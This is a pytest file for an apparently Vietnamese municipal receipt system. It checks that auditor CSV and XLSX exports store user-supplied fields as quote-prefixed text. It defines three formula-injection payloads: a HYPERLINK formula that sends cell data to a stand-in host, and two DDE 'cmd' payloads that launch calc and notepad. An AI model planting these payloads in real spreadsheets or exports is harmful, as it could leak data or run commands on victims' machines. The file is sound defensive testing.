"""Text from the API or a clerk never becomes a live formula in an exported spreadsheet: a
field pushed as `=HYPERLINK(...)` and a receipt line named `@SUM(...)` reach the auditor's
CSV and XLSX exports as text."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient

from accounts.api_tokens import create_api_token
from accounts.users import UserSpec, add_user
from receipt_counter.flow import IssueRequest, issue_receipt
from receipt_counter.series import SeriesSpec, add_series
from reports.spreadsheet_cells import FORMULA_STARTS
from signing.keys import forget_signers
from store.states import Role
from tests.support.pki import make_test_pki
from tests.support.web import PASSWORD, log_in, web_client, web_services

UNIT = "xa-an-binh"
FIELD = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'
LINE = "@SUM(1+1)*cmd|' /C calc'!A0"
PROCEDURE = "+cmd|' /C notepad'!A0"
# From the dossier's month to today, when the receipt is issued.
PERIOD = {"from": "2026-10-01", "to": f"{datetime.now(ZoneInfo('Asia/Ho_Chi_Minh')):%Y-%m-%d}"}


@dataclass(frozen=True)
class Exports:
    rates_csv: bytes
    rates_xlsx: bytes
    usage_csv: bytes
    usage_xlsx: bytes
    by_procedure_csv: bytes
    """Rates by procedure: a column of the procedures' names."""
    by_procedure_xlsx: bytes


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Exports]:
    folder = tmp_path_factory.mktemp("formulas")
    profile = make_test_pki(folder / "pki").profile_settings(folder, "thu-phi")
    forget_signers()
    with web_services(folder / "var", signing={"profiles": {"thu-phi": profile}}) as services:
        add_user(services.store, UserSpec("quantri", frozenset({Role.ADMIN}), PASSWORD), "test")
        add_user(services.store, UserSpec("kiem", frozenset({Role.AUDITOR}), PASSWORD), "test")
        token = create_api_token(services.store, "quantri", "một cửa", "test")
        series = SeriesSpec(
            "01BLP0-001", "BI-26T", "UBND xã An Bình", "0312345678", "Thôn Phú Lộc", UNIT,
            "thu-phi",
        )  # fmt: skip
        add_series(services, series, "test")
        issue_receipt(
            services,
            IssueRequest(
                series="BI-26T", payer="Nguyễn Thị Lan", dossier_code=None, items=((LINE, 8000),)
            ),
            "web:lan",
        )
        with web_client(services) as client:
            _push_row(client, token)
            log_in(client, "kiem")
            yield _download(client)
    forget_signers()


def _push_row(client: TestClient, token: str) -> None:
    row = {
        "code": "H57.132-261008-0975", "procedure_code": "1.001612",
        "procedure_name": PROCEDURE, "field": FIELD, "unit": UNIT,
        "channel": "trực tiếp", "received_at": "08/10/2026 08:30", "result_required": True,
    }  # fmt: skip
    pushed = client.post(
        "/api/dossiers", json={"dossiers": [row]}, headers={"Authorization": f"Bearer {token}"}
    )
    assert pushed.status_code == 200 and pushed.json()["created"] == 1, pushed.text


def _download(client: TestClient) -> Exports:
    def get(path: str, **params: str) -> bytes:
        answer = client.get(path, params=params)
        assert answer.status_code == 200, answer.text[:300]
        return answer.content

    rates = {**PERIOD, "by": "field"}
    by_procedure = {**PERIOD, "by": "procedure"}
    return Exports(
        rates_csv=get("/auditor/rates/export", **rates, format="csv"),
        rates_xlsx=get("/auditor/rates/export", **rates, format="xlsx"),
        usage_csv=get("/auditor/receipt-usage/export", **PERIOD, format="csv"),
        usage_xlsx=get("/auditor/receipt-usage/export", **PERIOD, format="xlsx"),
        by_procedure_csv=get("/auditor/rates/export", **by_procedure, format="csv"),
        by_procedure_xlsx=get("/auditor/rates/export", **by_procedure, format="xlsx"),
    )


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def test_a_csv_export_starts_no_cell_with_a_formula(exports: Exports) -> None:
    for content, text in (
        (exports.rates_csv, FIELD),
        (exports.usage_csv, LINE),
        (exports.by_procedure_csv, PROCEDURE),
    ):
        cells = csv_cells(content)
        assert "'" + text in cells  # the text is there, marked as text
        risky = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert risky == []


def _sheet_xml(content: bytes) -> tuple[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        return workbook.read("xl/worksheets/sheet1.xml").decode(), workbook.read(
            "xl/styles.xml"
        ).decode()


def test_an_xlsx_export_stores_the_text_as_text(exports: Exports) -> None:
    for content, text in (
        (exports.rates_xlsx, FIELD),
        (exports.usage_xlsx, LINE),
        (exports.by_procedure_xlsx, PROCEDURE),
    ):
        sheet, styles = _sheet_xml(content)
        assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
        cells = re.findall(r'<c r="[A-Z]+\d+"(?: s="(\d+)")? t="(\w+)"><is><t>([^<]*)</t>', sheet)
        matching = [(style, kind) for style, kind, value in cells if html.unescape(value) == text]
        assert matching, f"the text {text!r} is not in the sheet"
        style, kind = matching[0]
        assert kind == "inlineStr"
        # quote-prefixed: editing the cell in a spreadsheet program keeps it text
        formats = re.search(r"<cellXfs[^>]*>(.*)</cellXfs>", styles, re.S)
        assert formats is not None
        assert 'quotePrefix="1"' in re.findall(r"<xf [^>]*>", formats.group(1))[int(style)]
